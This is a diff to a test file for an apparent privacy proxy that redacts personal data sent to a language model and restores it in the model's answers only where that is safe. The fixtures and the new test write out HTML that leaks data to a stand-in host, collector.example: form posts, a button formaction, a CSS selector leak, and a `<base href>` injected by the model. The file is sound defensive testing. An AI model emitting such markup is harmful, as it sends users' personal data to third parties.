@@ -94,6 +94,8 @@ FIELDS = {
     "textarea": '<form method="post" action="https://collector.example/c"><textarea name="u">Hi {V}</textarea></form>',
     "textarea upper case": "<TEXTAREA NAME=u>\n{V}\n</TEXTAREA >",
     "option": "<form action=https://collector.example/c><select name=u><option selected>{V}<option>x</select></form>",
+    "option after a less than sign": "<select name=u><option>1 < 2 {V}</select>",
+    "textarea after a look-alike end": "<textarea name=u></textareas {V}</textarea>",
     "button formaction": '<form><button formaction="https://collector.example/c" name="u" value="{V}">Go</button>'
                          "</form>",
     "css selector on value": '<style>input[value^="m"]{{background:url(https://collector.example/m)}}</style>'
@@ -161,6 +163,7 @@ ORDINARY = {
     "after a closed tag": '<img src="https://docs.example/a.png" alt="chart"> Your address: {E}.',
     "after a textarea": "<textarea>notes</textarea> {E}",
     "html comment": "<!-- note --> {E}",
+    "an image alt left open, then a paragraph": "Use vec![1, 2 or ![ here\n\nMail {E}.",
     "less than signs": "if a < b then {E}; x<5, y<=z, i<n; {P}",
     "markdown reference with a title": "[docs]: https://docs.example/ \"Docs\"\n\nMail {E}.",
 }
@@ -172,3 +175,17 @@ def test_ordinary_answers_are_restored(shape: str) -> None:
     want = shape.format(E=MAIL, P=PHONE, P_TEL=f"tel:{PHONE}")
     assert vault().restore(text) == want
     assert stream(vault(), chunks(text, 3)) == want
+
+
+def test_a_relative_url_the_client_sent_is_still_kept() -> None:
+    """The client's own relative URL is no exception: a `<base>` from the model sends it to a third party."""
+    from proxy.guard.checks.base import Finding
+    from proxy.guard.rewrite import apply_findings
+
+    v = Vault()
+    sent = f"My page is [me](/users/{MAIL}) and https://crm.example/u?e={MAIL}"
+    at = [sent.index(MAIL), sent.rindex(MAIL)]
+    apply_findings(sent, [Finding("pii", "EMAIL_ADDRESS", "redact", a, a + len(MAIL)) for a in at], v)
+    answer = f'![me](/users/{E}) <base href="https://collector.example/"> https://crm.example/u?e={E}'
+    assert v.restore(answer) == f'![me](/users/{E}) <base href="https://collector.example/"> ' \
+                                f"https://crm.example/u?e={MAIL}"
